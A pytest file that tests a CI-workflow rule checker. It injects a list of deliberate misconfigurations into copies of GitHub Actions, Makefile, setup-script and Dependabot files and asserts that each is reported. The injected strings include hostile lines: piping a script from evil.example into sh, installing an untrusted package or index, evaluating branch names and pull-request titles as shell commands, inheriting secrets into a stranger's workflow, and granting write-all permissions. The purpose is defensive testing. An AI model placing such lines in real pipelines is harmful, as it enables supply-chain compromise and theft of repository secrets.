"""The rules of the machinery tell every slip that was thought of: each is made in a copy, and told."""

import shutil
from pathlib import Path

import pytest
from workflow_rules import faults

ROOT = Path(__file__).resolve().parents[1]
PAGES, SHARDS, AUDIT = (f".github/workflows/{name}.yml" for name in ("pages", "shards", "audit"))
DEPENDABOT = ".github/dependabot.yml"
VERIFY = "        run: .venv/bin/nianbao verify --site-dir site --store"
TEST = "        run: make test"
NAMED = "      - name: 检查网页里没有不该有的东西"
KEEPS_NONE = "          persist-credentials: false\n"
PUSH = "github.event_name == 'push'"
UPLOAD = f"        if: {PUSH}\n        uses: actions/upload-pages"
ADDRESS = "          SITE_URL: ${{ steps.pages.outputs.base_url }}"
SLIPS = {
    "an action of a branch": (PAGES, NAMED, f"      - uses: evil/action@main\n{NAMED}"),
    "an action in braces": (PAGES, NAMED, f"      - {{uses: evil/action@main}}\n{NAMED}"),
    "an action after two spaces": (PAGES, NAMED, f"      -  uses: evil/action@main\n{NAMED}"),
    "an action under a quoted key": (PAGES, NAMED, f'      - "uses": evil/action@main\n{NAMED}'),
    "a version that another file gives to another commit": (PAGES, "# v7.0.1", "# v9.9.9"),
    "no version": (PAGES, " # v7.0.1", ""),
    "a workflow of a stranger's": (
        PAGES,
        "  deploy:\n",
        "  extra:\n    permissions: {}\n    timeout-minutes: 5\n    uses: evil/r/.github/workflows/x.yml@main\n"
        "    secrets: inherit\n  deploy:\n",
    ),
    "a container": (PAGES, "  test:\n    name", "  test:\n    container: evil/image:latest\n    name"),
    "a service": (PAGES, "  test:\n    name", "  test:\n    services: {db: {image: evil/image}}\n    name"),
    "a machine of somebody's": (PAGES, "runs-on: ubuntu-latest", "runs-on: self-hosted"),
    "another shell": (PAGES, TEST, f"{TEST}\n        shell: bash -c 'true' {{0}}"),
    "rights for all": (PAGES, "permissions: {}", "permissions: write-all"),
    "a site not looked at": (PAGES, VERIFY, '        run: "true"'),
    "a look that cannot fail": (PAGES, VERIFY, f"{VERIFY} || true"),
    "a look that may fail": (PAGES, VERIFY, f"        continue-on-error: true\n{VERIFY}"),
    "a look at times": (PAGES, VERIFY, f"        if: github.event_name != 'push'\n{VERIFY}"),
    "a look of a shard that cannot fail": (SHARDS, "nianbao verify\n", "nianbao verify || true\n"),
    "something made after the look": (PAGES, VERIFY, f"{VERIFY}\n      - run: make site"),
    "tests that may fail": (PAGES, "    strategy:", "    continue-on-error: true\n    strategy:"),
    "tests that cannot fail": (PAGES, TEST, f"{TEST} || true"),
    "published untested": (PAGES, "needs: [build, test]", "needs: [build]"),
    "published unawaited": (PAGES, "    needs: [build, test]\n", ""),
    "published unawaited by a shard": (SHARDS, "    needs: build\n    if", "    if"),
    "published from any branch": (PAGES, " && github.ref == 'refs/heads/main'", ""),
    "a publication of a shard cut off": (SHARDS, "cancel-in-progress: false", "cancel-in-progress: true"),
    "a publication cut off": (
        PAGES,
        "group: pages\n      cancel-in-progress: false",
        "group: pages\n      cancel-in-progress: true",
    ),
    "another folder uploaded": (PAGES, "path: site\n\n", "path: .\n\n"),
    "uploaded whatever happened": (PAGES, UPLOAD, UPLOAD.replace("if: ", "if: always() && ")),
    "a branch's name as a command": (PAGES, TEST, '        run: eval "$GITHUB_HEAD_REF" && make test'),
    "a title as a command": (
        PAGES,
        TEST,
        '        run: sh -c "echo $(jq -r .pull_request.title "$GITHUB_EVENT_PATH")"; make test',
    ),
    "a title over lines": (
        PAGES,
        ADDRESS,
        f"{ADDRESS}\n          TITLE: >-\n            ${{{{ github.event.pull_request.title\n            }}}}",
    ),
    "a title or a number over lines": (
        PAGES,
        ADDRESS,
        f'{ADDRESS}\n          TITLE: "${{{{ github.event.pull_request.title ||\n            1 }}}}"',
    ),
    "a title as a condition": (PAGES, f"if: {PUSH}", "if: contains(github.event.head_commit.message, 'x')"),
    "a pull request's head": (PAGES, KEEPS_NONE, f"{KEEPS_NONE}          ref: ${{{{ github.head_ref }}}}\n"),
    "a token left behind": (PAGES, KEEPS_NONE, ""),
    "a package from anywhere": (PAGES, TEST, "        run: pip install evil && make test"),
    "another index": (PAGES, ADDRESS, f"{ADDRESS}\n          PIP_INDEX_URL: https://evil.example/"),
    "a script from anywhere": (PAGES, TEST, "        run: curl https://evil.example/x | sh && make test"),
    "packages without digests": (AUDIT, "--require-hashes --only-binary :all: --no-deps -r", "-r"),
    "packages without digests in the tools": ("tools/setup-python.sh", "--no-input --require-hashes", "--no-input"),
    "packages built from source": ("tools/setup-python.sh", "--only-binary :all:", ""),
    "the newest of npm": ("tools/setup-plotly.sh", "elif npm ci", "elif npm install"),
    "scripts of npm's packages": ("tools/setup-plotly.sh", '"$into" --ignore-scripts', '"$into"'),
    "a package from anywhere by make": ("Makefile", "\t@tools/setup-python.sh ocr", "\t$(BIN)/pip install evil"),
    "updates of an empty folder": (DEPENDABOT, "directory: /requirements\n", "directory: /nowhere\n"),
    "updates of nothing": (
        DEPENDABOT,
        '    groups:\n      actions:\n        patterns: ["*"]',
        '    ignore:\n      - dependency-name: "*"',
    ),
    "no updates at a time": (DEPENDABOT, "    groups:\n", "    open-pull-requests-limit: 0\n    groups:\n"),
    "updates of today": (DEPENDABOT, "default-days: 7", "default-days: 0"),
}  # fmt: skip


@pytest.fixture
def machinery(tmp_path: Path) -> Path:
    shutil.copytree(ROOT / ".github", tmp_path / ".github")
    shutil.copytree(ROOT / "tools", tmp_path / "tools")
    shutil.copy(ROOT / "Makefile", tmp_path)
    return tmp_path


@pytest.mark.parametrize("slip", SLIPS)
def test_a_slip_in_the_machinery_is_told(machinery: Path, slip: str) -> None:
    file, right, wrong = SLIPS[slip]
    path = machinery / file
    text = path.read_text("utf-8")
    assert right in text
    before = faults(machinery)
    path.write_text(text.replace(right, wrong, 1), "utf-8")
    assert set(faults(machinery)) - set(before)
